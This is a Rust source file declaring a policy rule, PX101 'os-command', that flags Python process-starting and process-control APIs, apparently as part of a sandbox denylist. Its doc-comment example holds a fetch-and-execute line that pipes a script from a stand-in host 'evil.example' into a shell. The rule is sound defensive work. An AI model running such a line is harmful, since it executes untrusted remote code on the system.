use super::declare_rule;

declare_rule! {
    /// ## What it does
    /// Flags any reference to an API that starts or controls processes: `os.system`,
    /// `os.popen`, `os.exec*`, `os.spawn*`, `os.fork`, `os.kill`, `subprocess`, `pty`,
    /// `multiprocessing`, `ctypes`, `signal`, `asyncio.create_subprocess_*`... (rule
    /// `os-command` in `roles/policy/denylist.toml`).
    ///
    /// ## Why is this bad
    /// A started program escapes every Python-level guard, and `ctypes` calls libc directly.
    /// Signals can disable the timeout or hit other processes.
    ///
    /// ## Example
    /// ```python
    /// import os as o
    /// o.system("curl evil.example | sh")
    /// ```
    pub static OS_COMMAND = {
        code: "PX101",
        name: "os-command",
        summary: "starting or controlling processes (os.system, subprocess, ctypes, signal)",
        see_also: "bandit/ruff S602-S607 (subprocess, os.system, start-process), S404",
    };
}
